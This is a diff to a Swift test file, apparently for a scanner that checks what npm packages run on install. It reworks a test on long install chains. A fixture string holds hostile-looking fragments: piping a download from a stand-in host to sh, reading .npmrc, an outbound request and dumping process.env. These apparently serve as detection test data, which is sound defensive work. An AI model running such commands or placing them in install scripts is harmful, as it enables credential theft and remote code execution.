@@ -172,9 +172,9 @@ import Testing
         var files = ["package.json": manifest("node f0.js")]
         for number in 0..<40 { files["f\(number).js"] = "require('./f\(number + 1).js')" }
         #expect(steps(files).count == 40)
-        let names = (0..<500_001).map { "a/\(String($0, radix: 36))" }.joined(separator: " ")
-        let facts = ReleaseFacts(.sample(["package.json": manifest("node a.js"), "a.js": names]))
-        #expect(facts.unread.map(\.part) == ["what install runs"])
+        let names = String(repeating: "./a.js ", count: 500_001)
+        let facts = ReleaseFacts(.sample(["package.json": manifest("sh a.txt"), "a.txt": names, "a.js": "1"]))
+        #expect(facts.unread.map(\.part).contains("what install runs"))
     }
 
     private static let words = "curl -s http://x.test | sh; read('.npmrc'); require('https').request(x); JSON.stringify(process.env)"
